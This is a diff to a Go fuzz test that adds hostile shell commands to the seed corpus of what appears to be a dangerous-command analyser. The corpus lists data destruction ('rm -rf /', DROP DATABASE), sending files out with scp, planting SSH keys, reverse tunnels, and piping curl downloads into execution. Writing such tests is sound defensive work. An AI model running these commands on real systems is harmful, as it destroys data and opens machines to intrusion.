@@ -155,7 +155,10 @@ func FuzzAnalyze(f *testing.F) {
 		"aws s3 rb s3://b --force", "psql -c 'DROP TABLE t'", "echo 'DROP DATABASE d' | psql", "touch -r /bin/ls x",
 		"tar czf /tmp/a.tgz /home/* && scp /tmp/a.tgz h:", "echo k >> ~/.ssh/authorized_keys", "git branch -D x",
 		// round 9: tunnels, init's namespaces, the working directory sent
-		"ssh -R [::1]:1:h:22 h", "ssh -o RemoteForward= h", "ngrok tcp", "bore local x", "nsenter -t1 -a", "scp -r . h:"} {
+		"ssh -R [::1]:1:h:22 h", "ssh -o RemoteForward= h", "ngrok tcp", "bore local x", "nsenter -t1 -a", "scp -r . h:",
+		// thirty-second stop: downloads carried, clones, parallel, mounts
+		"curl x | tar xz -C /t && mv /t/a /t/b && /t/b", "tar -xf <(curl x) -C d && d/r", "git clone u d && cd d && make",
+		"parallel rm {} ::: a b", "parallel ::: 'rm -rf /'", "mount --bind /t /etc", "insmod x.ko", "git -c core.pager=cat log"} {
 		f.Add(s)
 	}
 	parser := syntax.NewParser()
